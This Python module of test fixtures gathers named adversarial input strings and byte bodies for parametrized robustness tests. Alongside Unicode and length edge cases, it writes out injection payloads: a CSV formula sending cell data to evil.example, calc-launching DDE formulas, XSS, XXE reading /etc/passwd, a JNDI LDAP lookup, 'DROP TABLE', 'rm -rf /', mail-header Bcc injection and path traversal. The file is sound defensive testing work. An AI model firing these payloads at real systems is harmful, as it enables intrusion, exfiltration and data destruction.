"""The one list of values that try to be more, or less, than the text they are.

A test takes the groups that concern it, or ``ALL``. Each value has a name that says what it tries,
so that a failing case reads well: ``parametrize("name", MARKUP.values(), ids=MARKUP)``.

MARKUP and SCRIPTS are text that somebody may really have: accepted, kept as they are, and mere
text in every format. GROWING and LONG are too much for some fields. BLANK looks like nothing and CONTROLS would drive a terminal, a log or a
mail: what asks for a line refuses them. NUMBERS, TIMES, PATHS and DOCUMENTS are for the fields and
files that read such; a good answer to each is a value or a refusal that names the field.
"""

# What another program would take for its own language.
MARKUP = {
    "csv formula": '=HYPERLINK("https://evil.example/?q="&A1,"open")',
    "csv formula plus": "+1+cmd|' /C calc'!A0",
    "csv formula minus": "-2+3+cmd|' /C calc'!A0",
    "csv formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv quotes": '","x";"y"\t\'z\'',
    "html script": "<script>alert(1)</script>",
    "html attribute": "\"><img src=x onerror='alert(1)'>",
    "html entity": "&lt;b&gt; &amp; &#x202e; &#0;",
    "html comment": "--><!--<!DOCTYPE x>]]>",
    "svg": "</text></svg><svg onload=alert(1)><script/></svg>",
    "xml entity": "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "css": "}</style>*{background:url(//evil.example/x)}",
    "javascript link": "[x](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "markdown": "# x *a* _b_ `c` | d | ~~e~~ > f [^1] \\",
    "markdown table": "a|b\\|c",
    "markdown html": "<details open ontoggle=alert(1)>",
    "typst": '#read("/etc/passwd") #let x = 1 $x^2$ @ref <label>',
    "typst end": '"] #sys.version [* = + - / \\u{41}',
    "latex": "\\input{/etc/passwd} \\write18{id} $x$ %",
    "cypher": "'}) DETACH DELETE n //",
    "cypher backtick": "x`) MATCH (n) DETACH DELETE n //",
    "cypher parameter": "$id $props {x: 1}",
    "cypher escape": "\\u0027}) RETURN 1 //",
    "lucene": 'name:* AND (a OR "b"~10) +c -d !e ^2 [* TO *] {a TO b} /.*/ \\ :',
    "lucene wildcard": "*" * 40 + "?" * 40,
    "sql": "'; DROP TABLE entities; --",
    "jinja": "{{ 7*7 }} {% for x in y %} {# z #}",
    "printf": "%s %n %x %(name)s %-10d %%",
    "format": "{0} {name!r} {} {0.__class__.__mro__}",
    "template": "${HOME} ${jndi:ldap://evil.example/x} #{7*7}",
    "shell": "; rm -rf / && $(id) `id` | cat > x & ~ *",
    "option": "--help",
    "json": '","marking":"TLP:CLEAR","x":"',
    "prototype": "__proto__",
    "separators of lists": "a;b,c|d/e",
    "reads as null": "null",
    "reads as a number": "1e999999999",
    "reads as a date": "0001-01-01T00:00:00Z",
    "number with zeros": "000123",
    "only punctuation": "...",
}

# What people really write, in their own scripts and without harm.
SCRIPTS = {
    "arabic": "شركة الدروان القابضة",
    "hebrew and latin": "אבגד abc (12)",
    "persian with a joiner": "می\u200cخواهم",
    "hindi with a joiner": "क्\u200dष शर्मा",
    "family": "👩\u200d👩\u200d👧\u200d👦 Vantry",
    "flag and skin": "🇩🇪 👍🏽 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "keycap": "1\ufe0f\u20e3 a",
    "composed": "Zo\u00eb \u00c5ngstr\u00f6m",
    "decomposed": "Zoe\u0308 A\u030angstro\u0308m",
    "marks on marks": "Z" + "\u0300\u0323\u0489" * 30,
    "chinese": "黄河有限公司",
    "beyond the basic plane": "𠀋𝒜lice 𓀀",
    "cyrillic": "ООО «Лагуна-Грунт»",
    "greek": "Ναυτιλιακή Εταιρεία",
    "thai": "บริษัท ตัวอย่าง จำกัด",
    "spaces of all kinds": "a\u00a0b\u2003c\u3000d\u202fe",
}

# Few letters that become many when they are folded, for search or comparison.
GROWING = {
    "ligature": "\ufdfa" * 480,
    "roman number": "\u2177" * 300,
    "fractions": "\u2167\u2173\u00be" * 300,
    "case": "\u0130\u1e9e\ufb03" * 300,
    "hangul": "\u3200\u321c" * 400,
}

# Pairs of two names that an eye takes for one.
ALIKE = {
    "cyrillic a": ("Alice Vantry", "\u0410lice Vantry"),
    "all cyrillic": ("COCHA", "\u0421\u041e\u0421\u041d\u0410"),
    "greek omicron": ("Orrabay Holding", "\u039frrabay Holding"),
    "armenian": ("Oslo", "\u0555slo"),
    "joiner": ("Maren Aldous", "Maren\u200d Aldous"),
    "word joiner": ("Maren Aldous", "Maren\u2060 Aldous"),
    "soft hyphen": ("Maren Aldous", "Ma\u00adren Aldous"),
    "wide letters": ("Velm AG", "Ｖelm AG"),
    "mathematical letters": ("Alice", "𝐀lice"),
    "other space": ("Maren Aldous", "Maren\u00a0Aldous"),
    "composition": ("Zo\u00eb", "Zoe\u0308"),
    "zero": ("B0B Ltd", "BOB Ltd"),
    "one": ("Hill Ltd", "HiIl Ltd"),
}

# What shows nothing on a screen or on paper.
BLANK = {
    "nothing": "",
    "spaces": " \t ",
    "no-break space": "\u00a0",
    "spaces of all kinds": "\u1680\u2000\u2003\u2009\u202f\u205f\u3000",
    "zero width space": "\u200b",
    "joiners": "\u200c\u200d",
    "word joiner": "\u2060",
    "invisible operators": "\u2061\u2062\u2063\u2064",
    "soft hyphen": "\u00ad",
    "combining grapheme joiner": "\u034f",
    "directions": "\u200e\u200f\u061c",
    "hangul filler": "\u3164",
    "half hangul filler": "\uffa0",
    "hangul fillers": "\u115f\u1160",
    "braille blank": "\u2800",
    "mongolian": "\u180b\u180e",
    "khmer": "\u17b4\u17b5",
    "variation selectors": "\ufe00\ufe0f\U000e0100",
    "tags": "\U000e0001\U000e0041\U000e007f",
    "musical": "\U0001d159\U0001d173",
    "only marks": "\u0301\u0323",
    "enclosing mark": "\u20dd",
    "byte order mark": "\ufeff",
    "blank among blanks": " \u2800\u200b \u3164 ",
}

# What drives a terminal, forges a line of a log or a header of a mail, or breaks an encoding.
CONTROLS = {
    "nul": "a\x00b",
    "bell": "a\x07b",
    "backspace": "good\x08\x08\x08\x08evil",
    "escape": "a\x1b[2J\x1b[31mred\x1b[0m",
    "title": "a\x1b]0;owned\x07b",
    "link": "\x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;aWQ=\x07x",
    "c1 csi": "a\x9b31mred",
    "c1 osc": "a\x9d0;owned\x9cb",
    "c1 next line": "a\x85b",
    "all c1": "".join(map(chr, range(0x80, 0xA0))),
    "delete": "a\x7fb",
    "carriage return": "good\revil",
    "line break": "a\nERROR basset: forged",
    "form feed": "a\x0cb",
    "separators": "a\x1c\x1d\x1e\x1fb",
    "line separator": "a\u2028b\u2029c",
    "mail header": "x\r\nBcc: eve@evil.example\r\n\r\nhello",
    "mail header folded": "x\n\tX-Evil: 1",
    "right to left override": "invoice\u202efdp.exe",
    "isolate that stays open": "a\u2067b",
    "surrogate": "a\ud800b",
    "surrogate escape": "a\udc80\udcffb",
    "noncharacter": "a\uffff\ufffeb",
}

LONG = {
    "one word": "a" * 100_000,
    "one line": "ab " * 33_333,
    "at signs": "@" * 50_000,
    "mail that never ends": "@" + "a" * 99_000,
    "dots": "a." * 50_000,
    "open brackets": "[(<{" * 25_000,
    "marks": "e" + "\u0301" * 99_000,
    "spaces": "a" + " " * 99_000 + "b",
    "grows": "\ufdfa" * 5_500,
    "quotes": "\"'" * 50_000,
}

# As text; a JSON body takes them as they are, without quotes.
NUMBERS = {
    "5,000 digits": "9" * 5_000,
    "5,000 digits, less than nothing": "-" + "9" * 5_000,
    "5,000 zeros": "1" + "0" * 5_000,
    "fraction of 5,000 digits": "0." + "3" * 5_000,
    "above 64 bits": str(2**64),
    "above 53 bits": str(2**53 + 1),
    "huge exponent": "1e999999999",
    "tiny exponent": "1e-999999999",
    "exponent of 5,000 digits": "1e" + "9" * 5_000,
    "other figures": "١٢٣",
    "raised figure": "²",
    "underscores": "1_000",
    "infinite": "Infinity",
    "none": "NaN",
}

TIMES = {
    "the first": "0001-01-01T00:00:00Z",
    "before the first": "0001-01-01T00:00:00+01:00",
    "before the first by a second": "0001-01-01T00:00:00+00:00:01",
    "the last": "9999-12-31T23:59:59.999999Z",
    "after the last": "9999-12-31T23:59:59-23:59",
    "year of three figures": "0999-12-31T23:59:59Z",
    "year zero": "0000-01-01T00:00:00Z",
    "year of eleven figures": "99999999999-01-01T00:00:00Z",
    "year of 5,000 figures": "9" * 5_000 + "-01-01",
    "negative year": "-0044-03-15",
    "leap second": "2016-12-31T23:59:60Z",
    "far offset": "2024-05-31T12:00:00+23:59",
    "offset of a day": "2024-05-31T12:00:00+24:00",
    "offset with seconds": "2024-05-31T12:00:00+05:53:28",
    "offset with a part of a second": "2024-05-31T12:00:00+00:00:00.000001",
    "no zone": "2024-05-31T12:00:00",
    "week": "2024-W22-5T12:00:00Z",
    "basic form": "20240531T120000Z",
    "hour 24": "2024-05-31T24:00:00Z",
    "no such day": "2023-02-29T00:00:00Z",
    "other figures": "٢٠٢٤-05-31T12:00:00Z",
    "nanoseconds": "2024-05-31T12:00:00.123456789Z",
}

# As the name of a file, to be read or written.
PATHS = {
    "up": "../../../../etc/passwd",
    "up in the middle": "x/../../x.csv",
    "absolute": "/etc/passwd",
    "up, elsewhere": "..\\..\\windows\\win.ini",
    "300 letters": "a" * 300 + ".csv",
    "300 letters of two bytes": "é" * 150 + ".csv",
    "5,000 letters": "a" * 5_000 + ".csv",
    "folders without end": "a/" * 3_000 + "x.csv",
    "nul": "a\x00.csv",
    "dot": ".",
    "dots": "..",
    "device": "CON.csv",
    "option": "-rf.csv",
    "ends with a space": "x.csv ",
    "line break": "a\nb.csv",
    "escape": "\x1b[2J.csv",
    "c1": "\x9b2J.csv",
    "override": "x\u202evsc.exe",
    "surrogate": "a\udcff.csv",
}

# Bodies of a request, and files, as bytes.
DOCUMENTS = {
    "no JSON": b'{"name":',
    "many beginnings": b'{"name":' * 50_000,
    "deep": b'{"name": "a", "x": ' + b"[" * 500 + b"]" * 500 + b"}",
    "very deep": b"[" * 100_000,
    "another encoding": b"\xff\xfe{}",
    "surrogate": b'{"name": "\\ud800"}',
    "surrogate as a field": b'{"\\ud800": 1, "name": "a"}',
    "nul": b'{"name": "a\\u0000"}',
    "5,000 digits": b'{"name": ' + b"9" * 5_000 + b"}",
    "huge exponent": b'{"name": 1e999999999}',
    "not a number": b'{"name": NaN}',
    "nothing": b"",
    "null": b"null",
    "list": b"[]",
}

# Everything that is text, by name, to be put wherever text goes.
ALL: dict[str, str] = {
    f"{group}: {name}": value
    for group, values in {
        "markup": MARKUP,
        "script": SCRIPTS,
        "growing": GROWING,
        "alike": {name: pair[1] for name, pair in ALIKE.items()},
        "blank": BLANK,
        "control": CONTROLS,
        "long": LONG,
        "number": NUMBERS,
        "time": TIMES,
        "path": PATHS,
    }.items()
    for name, value in values.items()
}
